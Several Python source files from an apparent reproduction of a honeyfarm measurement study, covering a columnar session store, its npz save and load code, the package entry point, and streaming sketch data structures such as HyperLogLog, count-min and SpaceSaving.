        metrics = get_metrics()
        metrics.inc("store.adopts")
        metrics.inc("store.sessions_adopted", n)
        if all_identity:
            metrics.inc("store.adopts_fastpath")

    def adopt(self, other: "StoreBuilder") -> None:
        """Append all of ``other``'s rows, remapping its interned ids.

        ``other`` may share a table prefix with this builder (the
        fork/adopt shard path, where the remap is mostly the identity) or
        be entirely unrelated (merging independently collected stores).
        Remaps are vectorised ``np.take`` gathers over whole columns.
        """
        watch = stopwatch()
        remap = self._table_remaps(other)
        values, lengths = other._hash_arrays()
        self._adopt_arrays(remap, other._column_arrays(), values, lengths)
        get_metrics().observe("store.adopt_seconds", watch.elapsed())

    def adopt_store(self, store: "SessionStore") -> None:
        """Append a frozen store's rows, remapping its interned ids."""
        watch = stopwatch()
        remap = self._table_remaps(store)
        columns = {name: getattr(store, name) for name in STORE_COLUMN_DTYPES}
        self._adopt_arrays(
            remap, columns, store.hash_ids.values, store.hash_ids.lengths
        )
        get_metrics().observe("store.adopt_seconds", watch.elapsed())

    def build(self) -> "SessionStore":
        """Freeze the accumulated rows into an immutable columnar store.

        One concatenate per column; the script-derived ``n_commands`` /
        ``has_uri`` columns are gathered from the interned script table.
        """
        watch = stopwatch()
        columns = self._column_arrays()
        script_id = columns["script_id"]
        n_commands = np.zeros(self._n_rows, dtype=np.uint16)
        has_uri = np.zeros(self._n_rows, dtype=bool)
        if len(self.scripts):
            script_lengths, script_has_uri = self._script_columns()
            mask = script_id >= 0
            n_commands[mask] = script_lengths[script_id[mask]]
            has_uri[mask] = script_has_uri[script_id[mask]]
        values, lengths = self._hash_arrays()
        offsets = np.zeros(self._n_rows + 1, dtype=np.int64)
        np.cumsum(lengths, out=offsets[1:])
        store = SessionStore(
            n_commands=n_commands,
            has_uri=has_uri,
            hash_ids=HashIdColumn(values, offsets),
            honeypots=self.honeypots,
            countries=self.countries,
            passwords=self.passwords,
            usernames=self.usernames,
            hashes=self.hashes,
            versions=self.versions,
            scripts=list(self.scripts),
            **columns,
        )
        # Scripts provenance for the adopt fast path: the frozen store
        # carries the builder's fork mark so a parent that holds the
        # matching chain snapshot skips re-interning the shared prefix.
        # (Lost through an npz round trip — loads fall back to the slow,
        # always-correct remap.)
        store._scripts_fork_mark = self._scripts_fork_mark
        metrics = get_metrics()
        metrics.inc("store.freezes")
        metrics.observe("store.freeze_seconds", watch.elapsed())
        return store

    def _script_columns(self) -> Tuple[np.ndarray, np.ndarray]:
        """Per-script (command count, has_uri) arrays, extended incrementally."""
        count, lengths_arr, uri_arr = self._script_cols
        if count != len(self.scripts):
            new = self.scripts[count:]
            lengths_arr = np.concatenate((
                lengths_arr,
                np.array([min(len(s.commands), 65535) for s in new],
                         dtype=np.uint16),
            ))
            uri_arr = np.concatenate((
                uri_arr, np.array([s.has_uri for s in new], dtype=bool)
            ))
            self._script_cols = (len(self.scripts), lengths_arr, uri_arr)
        return lengths_arr, uri_arr


class SessionStore:
    """Immutable columnar store of session records.

    All column attributes are numpy arrays of identical length; side tables
    resolve interned ids back to strings / scripts.  The per-session hash
    lists are a CSR :class:`HashIdColumn` (``hash_ids``) — row indexing
    still yields tuples.  Row-shaped access is available through
    :meth:`record` and iteration, but analyses should use the columns.
    """

    def __init__(
        self,
        start_time: np.ndarray,
        duration: np.ndarray,
        honeypot: np.ndarray,
        protocol: np.ndarray,
        client_ip: np.ndarray,
        client_asn: np.ndarray,
        client_country: np.ndarray,
        n_attempts: np.ndarray,
        login_success: np.ndarray,
        script_id: np.ndarray,
        n_commands: np.ndarray,
        has_uri: np.ndarray,
        password_id: np.ndarray,
        username_id: np.ndarray,
        close_reason: np.ndarray,
        version_id: np.ndarray,
        hash_ids: Union[HashIdColumn, Sequence[Tuple[int, ...]]],
        honeypots: StringTable,
        countries: StringTable,
        passwords: StringTable,
        usernames: StringTable,
        hashes: StringTable,
        versions: StringTable,
        scripts: List[CommandScript],
    ):
        self.start_time = start_time
        self.duration = duration
        self.honeypot = honeypot
        self.protocol = protocol
        self.client_ip = client_ip
        self.client_asn = client_asn
        self.client_country = client_country
        self.n_attempts = n_attempts
        self.login_success = login_success
        self.script_id = script_id
        self.n_commands = n_commands
        self.has_uri = has_uri
        self.password_id = password_id
        self.username_id = username_id
        self.close_reason = close_reason
        self.version_id = version_id
        if not isinstance(hash_ids, HashIdColumn):
            hash_ids = HashIdColumn.from_lists(hash_ids)
        self.hash_ids = hash_ids
        self.honeypots = honeypots
        self.countries = countries
        self.passwords = passwords
        self.usernames = usernames
        self.hashes = hashes
        self.versions = versions
        self.scripts = scripts
        self._day: Optional[np.ndarray] = None

    def __len__(self) -> int:
        return len(self.start_time)

    @property
    def day(self) -> np.ndarray:
        """Zero-based observation-day index of each session (cached)."""
        if self._day is None:
            self._day = (self.start_time // SECONDS_PER_DAY).astype(np.int32)
        return self._day

    @property
    def n_honeypots(self) -> int:
        return len(self.honeypots)

    @property
    def n_days(self) -> int:
        return int(self.day.max()) + 1 if len(self) else 0

    def content_digest(self) -> str:
        """sha256 of the store's persisted byte content.

        Two stores digest equal iff :func:`repro.store.npz.save_npz`
        would write the same content for both — the identity the
        backend/worker-count invariance checks compare.
        """
        from repro.store.npz import store_digest

        return store_digest(self)

    # -- merging ---------------------------------------------------------------

    @classmethod
    def merge(cls, stores: Sequence["SessionStore"]) -> "SessionStore":
        """Concatenate frozen stores into one, re-interning side-table ids.

        Rows keep their per-store order and stores are concatenated in the
        order given, so a deterministic shard order yields a deterministic
        merged store regardless of how the shards were produced.  Interned
        ids are remapped table-by-table: shared prefixes (shards forked
        from one base builder) map to themselves, new entries are appended
        in first-seen order.
        """
        builder = StoreBuilder()
        with get_metrics().span("store/merge"):
            for store in stores:
                builder.adopt_store(store)
            return builder.build()

    # -- row access ------------------------------------------------------------

    def record(self, index: int) -> SessionRecord:
        """Materialise row ``index`` as a :class:`SessionRecord`."""
        script_id = int(self.script_id[index])
        commands: Tuple[str, ...] = ()
        uris: Tuple[str, ...] = ()
        if script_id >= 0:
            script = self.scripts[script_id]
            commands, uris = script.commands, script.uris
        password_id = int(self.password_id[index])
        username_id = int(self.username_id[index])
        version_id = int(self.version_id[index])
        return SessionRecord(
            start_time=float(self.start_time[index]),
            duration=float(self.duration[index]),
            honeypot_id=self.honeypots.value_of(int(self.honeypot[index])),
            protocol=_PROTOCOL_NAMES[int(self.protocol[index])],
            client_ip=int(self.client_ip[index]),
            client_asn=int(self.client_asn[index]),
            client_country=self.countries.value_of(int(self.client_country[index])),
            n_login_attempts=int(self.n_attempts[index]),
            login_success=bool(self.login_success[index]),
            username=self.usernames.value_of(username_id) if username_id >= 0 else "",
            password=self.passwords.value_of(password_id) if password_id >= 0 else "",
            commands=commands,
            uris=uris,
            file_hashes=tuple(
                self.hashes.value_of(h) for h in self.hash_ids[index]
            ),
            close_reason=_CLOSE_REASONS[int(self.close_reason[index])],
            client_version=(
                self.versions.value_of(version_id) if version_id >= 0 else ""
            ),
        )

    def __iter__(self) -> Iterator[SessionRecord]:
        for i in range(len(self)):
            yield self.record(i)

    # -- convenience -------------------------------------------------------------

    def filter(self, mask: np.ndarray) -> "SessionStore":
        """A new store containing only the sessions where ``mask`` is True.

        Side tables (interned strings, scripts) are shared with the parent
        store, so ids remain comparable across the two stores.
        """
        if len(mask) != len(self):
            raise ValueError("mask length must match store length")
        idx = np.nonzero(mask)[0]
        return SessionStore(
            start_time=self.start_time[idx],
            duration=self.duration[idx],
            honeypot=self.honeypot[idx],
            protocol=self.protocol[idx],
            client_ip=self.client_ip[idx],
            client_asn=self.client_asn[idx],
            client_country=self.client_country[idx],
            n_attempts=self.n_attempts[idx],
            login_success=self.login_success[idx],
            script_id=self.script_id[idx],
            n_commands=self.n_commands[idx],
            has_uri=self.has_uri[idx],
            password_id=self.password_id[idx],
            username_id=self.username_id[idx],
            close_reason=self.close_reason[idx],
            version_id=self.version_id[idx],
            hash_ids=self.hash_ids.take(idx),
            honeypots=self.honeypots,
            countries=self.countries,
            passwords=self.passwords,
            usernames=self.usernames,
            hashes=self.hashes,
            versions=self.versions,
            scripts=self.scripts,
        )

    def honeypot_name(self, honeypot_index: int) -> str:
        return self.honeypots.value_of(honeypot_index)

    def hash_name(self, hash_id: int) -> str:
        return self.hashes.value_of(hash_id)

    @property
    def is_ssh(self) -> np.ndarray:
        return self.protocol == PROTOCOL_SSH

    @property
    def is_telnet(self) -> np.ndarray:
        return self.protocol == PROTOCOL_TELNET
