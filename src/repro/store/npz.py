"""Fast columnar persistence for :class:`SessionStore` (numpy .npz).

JSONL (``repro.store.io``) is the interchange format; this module is the
fast path for saving/reloading large generated traces: all numeric columns
are stored as-is, string tables and interned scripts as object arrays, and
the variable-length per-session hash lists in CSR-style (values +
offsets) — the same shape the in-memory :class:`HashIdColumn` uses, so
save and load move whole arrays with no per-row work.  Round-trips are
exact.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Union

import numpy as np

from repro.obs import get_metrics, stopwatch
from repro.store.interning import StringTable
from repro.store.records import CommandScript
from repro.store.store import HashIdColumn, SessionStore

PathLike = Union[str, Path]

_FORMAT_VERSION = 1

_NUMERIC_COLUMNS = (
    "start_time", "duration", "honeypot", "protocol", "client_ip",
    "client_asn", "client_country", "n_attempts", "login_success",
    "script_id", "n_commands", "has_uri", "password_id", "username_id",
    "close_reason", "version_id",
)

_TABLES = ("honeypots", "countries", "passwords", "usernames", "hashes",
           "versions")


def _store_arrays(store: SessionStore) -> dict:
    """The exact arrays :func:`save_npz` persists, keyed by npz name."""
    arrays = {name: getattr(store, name) for name in _NUMERIC_COLUMNS}

    # The in-memory hash column is already CSR — persist it verbatim.
    arrays["hash_values"] = np.asarray(store.hash_ids.values, dtype=np.int64)
    arrays["hash_offsets"] = np.asarray(store.hash_ids.offsets, dtype=np.int64)

    for table_name in _TABLES:
        table: StringTable = getattr(store, table_name)
        arrays[f"table_{table_name}"] = np.array(table.values(), dtype=object)

    scripts_json = json.dumps(
        [[list(s.commands), list(s.uris)] for s in store.scripts]
    )
    arrays["scripts_json"] = np.array([scripts_json], dtype=object)
    arrays["format_version"] = np.array([_FORMAT_VERSION])
    return arrays


def store_digest(store: SessionStore) -> str:
    """sha256 over the persisted byte content of a store.

    Hashes exactly what :func:`save_npz` would write — numeric columns as
    raw bytes, string tables and interned scripts as JSON — so two stores
    digest equal iff their npz files round-trip to the same content.
    Backend/worker-count invariance checks compare these digests
    (``tests/test_sched.py``, the ci.sh backend matrix).
    """
    import hashlib

    digest = hashlib.sha256()
    arrays = _store_arrays(store)
    for name in sorted(arrays):
        arr = np.asarray(arrays[name])
        digest.update(name.encode("utf-8"))
        if arr.dtype == object:  # string tables / scripts JSON
            digest.update(
                json.dumps([str(item) for item in arr]).encode("utf-8")
            )
        else:
            digest.update(str(arr.dtype).encode("utf-8"))
            digest.update(np.ascontiguousarray(arr).tobytes())
    return digest.hexdigest()


def save_npz(store: SessionStore, path: PathLike) -> None:
    """Save a store to ``path`` (.npz)."""
    watch = stopwatch()
    arrays = _store_arrays(store)
    path = Path(path)
    with get_metrics().span("store/save_npz"):
        np.savez_compressed(path, **arrays)
    metrics = get_metrics()
    metrics.inc("store.npz_saves")
    metrics.inc("store.npz_saved_sessions", len(store))
    elapsed = watch.elapsed()
    metrics.observe("store.npz_save_seconds", elapsed)
    if elapsed > 0:
        metrics.gauge_set(
            "store.npz_save_bytes_per_second",
            path.stat().st_size / elapsed,
        )


def load_npz(path: PathLike) -> SessionStore:
    """Load a store saved by :func:`save_npz`."""
    watch = stopwatch()
    path = Path(path)
    with get_metrics().span("store/load_npz"), \
            np.load(path, allow_pickle=True) as data:
        version = int(data["format_version"][0])
        if version != _FORMAT_VERSION:
            raise ValueError(f"unsupported store format version {version}")

        columns = {name: data[name] for name in _NUMERIC_COLUMNS}
        hash_ids = HashIdColumn(data["hash_values"], data["hash_offsets"])

        tables = {}
        for table_name in _TABLES:
            tables[table_name] = StringTable(
                str(s) for s in data[f"table_{table_name}"]
            )

        scripts = [
            CommandScript(commands=tuple(commands), uris=tuple(uris))
            for commands, uris in json.loads(str(data["scripts_json"][0]))
        ]

    store = SessionStore(
        hash_ids=hash_ids,
        scripts=scripts,
        **columns,
        **tables,
    )
    metrics = get_metrics()
    metrics.inc("store.npz_loads")
    metrics.inc("store.npz_loaded_sessions", len(store))
    elapsed = watch.elapsed()
    metrics.observe("store.npz_load_seconds", elapsed)
    if elapsed > 0:
        metrics.gauge_set(
            "store.npz_load_bytes_per_second",
            path.stat().st_size / elapsed,
        )
    return store
