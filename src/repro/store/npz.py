"""Fast columnar persistence for :class:`SessionStore` (numpy .npz).

JSONL (``repro.store.io``) is the interchange format; this module is the
fast path for saving/reloading large generated traces: all numeric columns
are stored as-is, string tables and interned scripts as object arrays, and
the variable-length per-session hash lists in CSR-style (values +
offsets).  Round-trips are exact.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Union

import numpy as np

from repro.store.interning import StringTable
from repro.store.records import CommandScript
from repro.store.store import SessionStore

PathLike = Union[str, Path]

_FORMAT_VERSION = 1

_NUMERIC_COLUMNS = (
    "start_time", "duration", "honeypot", "protocol", "client_ip",
    "client_asn", "client_country", "n_attempts", "login_success",
    "script_id", "n_commands", "has_uri", "password_id", "username_id",
    "close_reason", "version_id",
)

_TABLES = ("honeypots", "countries", "passwords", "usernames", "hashes",
           "versions")


def save_npz(store: SessionStore, path: PathLike) -> None:
    """Save a store to ``path`` (.npz)."""
    arrays = {name: getattr(store, name) for name in _NUMERIC_COLUMNS}

    # Variable-length hash lists -> CSR (values, offsets).
    lengths = np.fromiter(
        (len(t) for t in store.hash_ids), dtype=np.int64, count=len(store)
    )
    offsets = np.zeros(len(store) + 1, dtype=np.int64)
    np.cumsum(lengths, out=offsets[1:])
    values = np.fromiter(
        (h for t in store.hash_ids for h in t), dtype=np.int64,
        count=int(offsets[-1]),
    )
    arrays["hash_values"] = values
    arrays["hash_offsets"] = offsets

    for table_name in _TABLES:
        table: StringTable = getattr(store, table_name)
        arrays[f"table_{table_name}"] = np.array(table.values(), dtype=object)

    scripts_json = json.dumps(
        [[list(s.commands), list(s.uris)] for s in store.scripts]
    )
    arrays["scripts_json"] = np.array([scripts_json], dtype=object)
    arrays["format_version"] = np.array([_FORMAT_VERSION])

    np.savez_compressed(Path(path), **arrays)


def load_npz(path: PathLike) -> SessionStore:
    """Load a store saved by :func:`save_npz`."""
    with np.load(Path(path), allow_pickle=True) as data:
        version = int(data["format_version"][0])
        if version != _FORMAT_VERSION:
            raise ValueError(f"unsupported store format version {version}")

        columns = {name: data[name] for name in _NUMERIC_COLUMNS}

        offsets = data["hash_offsets"]
        values = data["hash_values"]
        hash_ids = [
            tuple(int(h) for h in values[offsets[i]:offsets[i + 1]])
            for i in range(len(offsets) - 1)
        ]

        tables = {}
        for table_name in _TABLES:
            tables[table_name] = StringTable(
                str(s) for s in data[f"table_{table_name}"]
            )

        scripts = [
            CommandScript(commands=tuple(commands), uris=tuple(uris))
            for commands, uris in json.loads(str(data["scripts_json"][0]))
        ]

    return SessionStore(
        hash_ids=hash_ids,
        scripts=scripts,
        **columns,
        **tables,
    )
