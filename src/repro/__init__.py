"""Reproduction of "Fifteen Months in the Life of a Honeyfarm" (IMC 2023).

A from-scratch honeyfarm system — medium-interaction SSH/Telnet honeypots,
a 221-pot global deployment, a calibrated synthetic attacker population —
plus the full analysis suite behind the paper's tables and figures.

Entry points (the stable ``repro.api`` façade):

>>> import repro
>>> dataset = repro.generate(repro.ScenarioConfig(scale=1/4000))
>>> print(repro.report(dataset))

``generate`` accepts ``backend="inline" | "pool" | "queue"`` (all
byte-identical; see :mod:`repro.sched`) and ``workers=N``;
``repro.load(path)`` wraps an existing trace.  ``generate_dataset`` is
the deprecated pre-façade spelling.
"""

from repro.api import GENERATE_BACKENDS, RunOptions, generate, load, report
from repro.workload import ScenarioConfig, HoneyfarmDataset, generate_dataset

__version__ = "1.1.0"

__all__ = [
    "GENERATE_BACKENDS",
    "HoneyfarmDataset",
    "RunOptions",
    "ScenarioConfig",
    "generate",
    "generate_dataset",
    "load",
    "report",
    "__version__",
]
