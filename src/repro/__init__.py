"""Reproduction of "Fifteen Months in the Life of a Honeyfarm" (IMC 2023).

A from-scratch honeyfarm system — medium-interaction SSH/Telnet honeypots,
a 221-pot global deployment, a calibrated synthetic attacker population —
plus the full analysis suite behind the paper's tables and figures.

Entry points:

>>> from repro import ScenarioConfig, generate_dataset
>>> dataset = generate_dataset(ScenarioConfig(scale=1/4000))
>>> from repro.core.report import print_summary
>>> print(print_summary(dataset))
"""

from repro.workload import ScenarioConfig, HoneyfarmDataset, generate_dataset

__version__ = "1.0.0"

__all__ = ["ScenarioConfig", "HoneyfarmDataset", "generate_dataset", "__version__"]
