"""From-scratch mergeable sketches for streaming farm analytics.

Four summaries cover the aggregate tables the batch :class:`AnalysisContext`
computes from a frozen store:

* :class:`HyperLogLog` — unique client IPs / unique file hashes.
* :class:`CountMinSketch` — per-key occurrence estimates (hash occurrence
  counts) with a one-sided overestimate guarantee.
* :class:`SpaceSaving` — top-k heavy hitters (hashes, clients, ASNs),
  implemented as the mergeable Misra–Gries summary (the space-saving and
  Misra–Gries summaries are isomorphic: a space-saving counter equals the
  Misra–Gries counter plus the accumulated decrement).
* :class:`ExactCounter` — exact online accumulator for low-cardinality
  keys (category mix, sessions per day) where no approximation is needed.

Merge algebra
-------------
Per-shard sketches fold with the same shard-ordered discipline as
``Metrics.merge`` / ``Tracer.fold``:

* HyperLogLog merge is a register-wise ``max`` — commutative, associative
  and idempotent, so the fold result is independent of worker count and
  arrival order.
* Count-min merge is a cell-wise sum — commutative and associative (not
  idempotent: merging a sketch with itself doubles counts, as it must).
* ``SpaceSaving.merge`` sums counters key-wise, then performs one
  Misra–Gries reduction (subtract the (capacity+1)-th largest counter,
  drop non-positive).  The reduction depends only on the *multiset* of
  counter values, so the merge is commutative; it is exactly associative
  whenever capacity covers the distinct keys (no reduction fires), and
  otherwise the documented error envelope below still holds for any fold
  shape.
* ``ExactCounter`` merge is a key-wise sum — commutative and associative.

Error bounds (documented, pinned by tests)
------------------------------------------
* HyperLogLog with ``m = 2**p`` registers: relative standard error
  ``1.04 / sqrt(m)`` (``rel_error``); small cardinalities fall back to
  linear counting, which is far tighter.
* Count-min with width ``w`` and depth ``d``: for every key,
  ``true <= estimate`` always, and ``estimate <= true + epsilon * total``
  with probability at least ``1 - delta`` per query, where
  ``epsilon = e / w`` and ``delta = exp(-d)``.
* SpaceSaving with capacity ``k``: every stored counter is a lower bound
  on the true frequency, ``count <= true <= count + error()``; a key
  whose true frequency exceeds ``error()`` is always present.  ``error()``
  (the accumulated decrement) never exceeds ``n / (k + 1)``.

Determinism
-----------
All hashing is seeded through :func:`derive_stream_seed` (the exact
derivation used by the simulator's named RNG streams), so two sketches
built with the same ``(seed, name)`` from the same inputs are equal, and
no global RNG or wall clock is touched anywhere in this module.
"""

from __future__ import annotations

import hashlib
import math
from typing import Dict, Iterable, List, Optional, Sequence, Tuple, TypeVar, Union

import numpy as np

from repro.simulation.rng import derive_stream_seed

Key = TypeVar("Key", int, str)
KeyLike = Union[int, str]

_U64 = np.uint64
_MIX_1 = np.uint64(0xBF58476D1CE4E5B9)
_MIX_2 = np.uint64(0x94D049BB133111EB)
_GOLDEN = np.uint64(0x9E3779B97F4A7C15)


def _mix64(values: np.ndarray, seed: int) -> np.ndarray:
    """SplitMix64 finalizer over a uint64 array, offset by ``seed``.

    Vectorised and branch-free; numpy uint64 arithmetic wraps modulo
    2**64, which is exactly the splitmix semantics.
    """
    x = np.asarray(values, dtype=_U64) + (_U64(seed & 0xFFFFFFFFFFFFFFFF) ^ _GOLDEN)
    x = (x ^ (x >> _U64(30))) * _MIX_1
    x = (x ^ (x >> _U64(27))) * _MIX_2
    return x ^ (x >> _U64(31))


def _hash_str(value: str, seed: int) -> int:
    """Seeded 64-bit hash of a string (blake2b, deterministic)."""
    digest = hashlib.blake2b(
        f"{seed}:{value}".encode("utf-8"), digest_size=8
    ).digest()
    return int.from_bytes(digest, "big")


def hash_key(value: KeyLike, seed: int) -> int:
    """Seeded 64-bit hash of an int or str key."""
    if isinstance(value, str):
        return _hash_str(value, seed)
    return int(_mix64(np.asarray([value], dtype=_U64), seed)[0])


def hash_keys(values: Sequence[KeyLike], seed: int) -> np.ndarray:
    """Seeded 64-bit hashes for a sequence of keys (uint64 array)."""
    if len(values) == 0:
        return np.empty(0, dtype=_U64)
    if isinstance(values[0], str):
        return np.asarray(
            [_hash_str(v, seed) for v in values], dtype=_U64
        )
    return _mix64(np.asarray(values, dtype=_U64), seed)


def _leading_zeros64(x: np.ndarray) -> np.ndarray:
    """Exact count of leading zero bits in 64-bit values, vectorised."""
    x = np.asarray(x, dtype=_U64)
    zero = x == 0
    n = np.zeros(x.shape, dtype=np.int64)
    for shift in (32, 16, 8, 4, 2, 1):
        small = x < (_U64(1) << _U64(64 - shift))
        n[small] += shift
        x = np.where(small, x << _U64(shift), x)
    n[zero] = 64
    return n


def _require_compatible(a, b) -> None:
    if type(a) is not type(b) or a.signature() != b.signature():
        raise ValueError(
            f"cannot merge incompatible sketches: "
            f"{type(a).__name__}{a.signature()} vs "
            f"{type(b).__name__}{b.signature()}"
        )


class HyperLogLog:
    """HyperLogLog cardinality sketch over a seeded 64-bit hash space.

    ``p`` index bits select one of ``m = 2**p`` registers; each register
    keeps the maximum rank (leading-zero run + 1) seen in the remaining
    ``64 - p`` hash bits.  Relative standard error is ``1.04 / sqrt(m)``;
    the estimator switches to linear counting below ``2.5 * m`` where it
    is essentially exact.
    """

    def __init__(self, seed: int, name: str, p: int = 12):
        if not 4 <= p <= 18:
            raise ValueError(f"HyperLogLog p must be in [4, 18], got {p}")
        self.name = name
        self.p = p
        self.m = 1 << p
        self.seed = derive_stream_seed(seed, name)
        self.registers = np.zeros(self.m, dtype=np.uint8)

    def signature(self) -> Tuple:
        return (self.name, self.p, self.seed)

    @property
    def rel_error(self) -> float:
        """Documented relative standard error: ``1.04 / sqrt(m)``."""
        return 1.04 / math.sqrt(self.m)

    def add(self, value: KeyLike) -> None:
        self.add_hashes(hash_keys([value], self.seed))

    def add_many(self, values: Sequence[KeyLike]) -> None:
        self.add_hashes(hash_keys(values, self.seed))

    def add_hashes(self, hashes: np.ndarray) -> None:
        """Fold pre-hashed uint64 values (from :func:`hash_keys`) in."""
        if len(hashes) == 0:
            return
        h = np.asarray(hashes, dtype=_U64)
        idx = (h >> _U64(64 - self.p)).astype(np.int64)
        tail = h << _U64(self.p)
        rank = np.minimum(_leading_zeros64(tail) + 1, 64 - self.p + 1)
        np.maximum.at(self.registers, idx, rank.astype(np.uint8))

    def _alpha(self) -> float:
        if self.m == 16:
            return 0.673
        if self.m == 32:
            return 0.697
        if self.m == 64:
            return 0.709
        return 0.7213 / (1.0 + 1.079 / self.m)

    def estimate(self) -> float:
        """Estimated cardinality (small-range linear counting applied)."""
        regs = self.registers.astype(np.float64)
        raw = self._alpha() * self.m * self.m / np.power(2.0, -regs).sum()
        zeros = int((self.registers == 0).sum())
        if raw <= 2.5 * self.m and zeros > 0:
            return self.m * math.log(self.m / zeros)
        return float(raw)

    def interval(self, sigmas: float = 3.0) -> Tuple[float, float]:
        """(low, high) bounds at ``sigmas`` standard errors."""
        est = self.estimate()
        spread = sigmas * self.rel_error * est
        return (max(0.0, est - spread), est + spread)

    def merge(self, other: "HyperLogLog") -> "HyperLogLog":
        """Fold ``other`` in (register-wise max).  Returns ``self``."""
        _require_compatible(self, other)
        np.maximum(self.registers, other.registers, out=self.registers)
        return self

    def copy(self) -> "HyperLogLog":
        clone = HyperLogLog.__new__(HyperLogLog)
        clone.name = self.name
        clone.p = self.p
        clone.m = self.m
        clone.seed = self.seed
        clone.registers = self.registers.copy()
        return clone

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, HyperLogLog):
            return NotImplemented
        return self.signature() == other.signature() and bool(
            np.array_equal(self.registers, other.registers)
        )

    __hash__ = None  # type: ignore[assignment]


class CountMinSketch:
    """Count-min sketch: ``depth`` rows of ``width`` counters.

    Each row hashes keys with an independently derived seed; a point
    query is the minimum over rows, so estimates are one-sided:
    ``true <= estimate`` always, and ``estimate <= true + epsilon * total``
    with probability ``>= 1 - delta``, where ``epsilon = e / width`` and
    ``delta = exp(-depth)``.
    """

    def __init__(self, seed: int, name: str, width: int = 2048, depth: int = 4):
        if width < 1 or depth < 1:
            raise ValueError("CountMinSketch width and depth must be >= 1")
        self.name = name
        self.width = width
        self.depth = depth
        self.seed = derive_stream_seed(seed, name)
        self.row_seeds = tuple(
            derive_stream_seed(self.seed, f"row.{row}") for row in range(depth)
        )
        self.table = np.zeros((depth, width), dtype=np.int64)
        self.total = 0

    def signature(self) -> Tuple:
        return (self.name, self.width, self.depth, self.seed)

    @property
    def epsilon(self) -> float:
        """Documented additive-error factor: ``e / width``."""
        return math.e / self.width

    @property
    def delta(self) -> float:
        """Documented per-query failure probability: ``exp(-depth)``."""
        return math.exp(-self.depth)

    def _indices(self, values: Sequence[KeyLike]) -> List[np.ndarray]:
        return [
            (hash_keys(values, row_seed) % _U64(self.width)).astype(np.int64)
            for row_seed in self.row_seeds
        ]

    def add(self, value: KeyLike, count: int = 1) -> None:
        self.add_many([value], [count])

    def add_many(
        self, values: Sequence[KeyLike], counts: Optional[Sequence[int]] = None
    ) -> None:
        if len(values) == 0:
            return
        weights = (
            np.ones(len(values), dtype=np.int64)
            if counts is None
            else np.asarray(counts, dtype=np.int64)
        )
        for row, idx in enumerate(self._indices(values)):
            np.add.at(self.table[row], idx, weights)
        self.total += int(weights.sum())

    def estimate(self, value: KeyLike) -> int:
        """Point estimate for one key (min over rows; overestimate)."""
        idx = self._indices([value])
        return int(min(self.table[row][i[0]] for row, i in enumerate(idx)))

    def error_bound(self) -> float:
        """``epsilon * total``: the additive slack at confidence 1-delta."""
        return self.epsilon * self.total

    def merge(self, other: "CountMinSketch") -> "CountMinSketch":
        """Fold ``other`` in (cell-wise sum).  Returns ``self``."""
        _require_compatible(self, other)
        self.table += other.table
        self.total += other.total
        return self

    def copy(self) -> "CountMinSketch":
        clone = CountMinSketch.__new__(CountMinSketch)
        clone.name = self.name
        clone.width = self.width
        clone.depth = self.depth
        clone.seed = self.seed
        clone.row_seeds = self.row_seeds
        clone.table = self.table.copy()
        clone.total = self.total
        return clone

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, CountMinSketch):
            return NotImplemented
        return (
            self.signature() == other.signature()
            and self.total == other.total
            and bool(np.array_equal(self.table, other.table))
        )

    __hash__ = None  # type: ignore[assignment]


class SpaceSaving:
    """Top-k heavy-hitter summary (mergeable Misra–Gries form).

    Keeps at most ``capacity`` counters.  When an insert would exceed
    capacity, the (capacity+1)-th largest counter value is subtracted
    from every counter and non-positive counters are dropped — the
    classic Misra–Gries reduction, applied lazily so each stored count
    is a *lower bound* on the key's true frequency:

        ``count(key) <= true(key) <= count(key) + error()``

    ``error()`` is the accumulated decrement; keys with true frequency
    above it can never have been evicted.  Because the reduction depends
    only on the multiset of counter values, ``merge`` (key-wise sum, one
    reduction) is commutative; it is exactly associative while capacity
    covers all distinct keys.  Ties in ``top()`` break on the key, so
    rendered tables are deterministic.
    """

    def __init__(self, capacity: int, name: str = "spacesaving"):
        if capacity < 1:
            raise ValueError("SpaceSaving capacity must be >= 1")
        self.name = name
        self.capacity = capacity
        self.counts: Dict[KeyLike, int] = {}
        self.n = 0
        self.decremented = 0

    def signature(self) -> Tuple:
        return (self.name, self.capacity)

    def add(self, key: KeyLike, count: int = 1) -> None:
        if count <= 0:
            return
        self.n += count
        self.counts[key] = self.counts.get(key, 0) + count
        if len(self.counts) > self.capacity:
            self._reduce()

    def add_many(self, keys: Iterable[KeyLike]) -> None:
        for key in keys:
            self.add(key)

    def _reduce(self) -> None:
        # Subtract the (capacity+1)-th largest counter from everything;
        # at most ``capacity`` strictly larger counters can survive.
        ranked = sorted(self.counts.values(), reverse=True)
        pivot = ranked[self.capacity]
        self.counts = {
            key: count - pivot
            for key, count in self.counts.items()
            if count > pivot
        }
        self.decremented += pivot

    def error(self) -> int:
        """Upper bound on how far any stored count undershoots the truth."""
        return self.decremented

    def estimate(self, key: KeyLike) -> Tuple[int, int]:
        """(lower, upper) frequency bounds for ``key`` (0-based if absent)."""
        lower = self.counts.get(key, 0)
        return (lower, lower + self.decremented)

    def top(self, k: Optional[int] = None) -> List[Tuple[KeyLike, int, int]]:
        """The ``k`` heaviest keys as ``(key, lower, upper)`` tuples.

        Ordered by descending lower bound, then ascending key — a total
        order, so output is independent of insertion order.
        """
        ranked = sorted(self.counts.items(), key=lambda kv: (-kv[1], kv[0]))
        if k is not None:
            ranked = ranked[:k]
        return [(key, count, count + self.decremented) for key, count in ranked]

    def merge(self, other: "SpaceSaving") -> "SpaceSaving":
        """Fold ``other`` in (key-wise sum + one reduction).  Returns self."""
        _require_compatible(self, other)
        for key, count in other.counts.items():
            self.counts[key] = self.counts.get(key, 0) + count
        self.n += other.n
        self.decremented += other.decremented
        if len(self.counts) > self.capacity:
            self._reduce()
        return self

    def copy(self) -> "SpaceSaving":
        clone = SpaceSaving(self.capacity, self.name)
        clone.counts = dict(self.counts)
        clone.n = self.n
        clone.decremented = self.decremented
        return clone

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, SpaceSaving):
            return NotImplemented
        return (
            self.signature() == other.signature()
            and self.n == other.n
            and self.decremented == other.decremented
            and self.counts == other.counts
        )

    __hash__ = None  # type: ignore[assignment]


class ExactCounter:
    """Exact online accumulator for low-cardinality keyed counts.

    Used where approximation buys nothing: the five-way category mix and
    sessions-per-day table.  ``merge`` is a key-wise sum, so the fold is
    commutative and associative and streaming answers equal the batch
    group-by exactly.
    """
